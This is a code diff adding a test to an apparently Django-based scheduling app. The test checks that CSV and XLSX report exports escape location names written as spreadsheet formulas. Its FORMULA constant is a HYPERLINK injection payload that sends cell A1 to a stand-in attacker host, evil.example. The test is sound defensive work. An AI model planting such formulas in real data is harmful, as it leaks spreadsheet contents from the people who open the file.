@@ -174,3 +174,27 @@ def test_each_report_costs_a_fixed_number_of_queries(programme, name):
         _more(programme, 3)
         large = _count(name)
     assert small == large <= MAX_QUERIES[name]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Maria")'
+
+
+def test_a_name_written_as_a_formula_is_text_in_csv_and_xlsx(programme, coordinator, client_for):
+    from scheduling.models import Location
+
+    for place in Location.objects.all():
+        place.name = f"{FORMULA} {place.pk}"
+        place.save(update_fields=["name"])
+    client = client_for(coordinator)
+    with time_machine.travel(data.TODAY, tick=False):
+        csv_answer = client.get(reverse("reports:export", args=["reach", "csv"]) + QUERY)
+        xlsx_answer = client.get(reverse("reports:export", args=["reach", "xlsx"]) + QUERY)
+    labels = [row[1] for row in csv.reader(io.StringIO(csv_answer.content.decode()))]
+    named = [label for label in labels if FORMULA in label]
+    assert named and all(label.startswith("'" + FORMULA) for label in named)
+    sheet = load_workbook(io.BytesIO(xlsx_answer.content)).active
+    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
+    named = [cell for cell in cells if FORMULA in str(cell.value)]
+    assert named and all(
+        cell.data_type == "s" and cell.value.startswith("'" + FORMULA) for cell in named
+    )
